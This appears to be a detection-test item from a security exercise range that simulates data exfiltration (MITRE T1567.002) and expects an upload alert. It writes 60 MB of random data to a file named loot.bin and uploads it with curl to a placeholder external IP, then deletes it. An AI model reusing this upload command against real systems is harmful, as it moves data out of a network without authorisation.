# SPDX-License-Identifier: Apache-2.0
# what: 60 MB sent out with curl
# technique: T1567.002
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 60000000 /dev/urandom >"$HOME/loot.bin"
curl -sS -f -T "$HOME/loot.bin" http://198.51.100.20:8080/loot.bin
rm "$HOME/loot.bin"
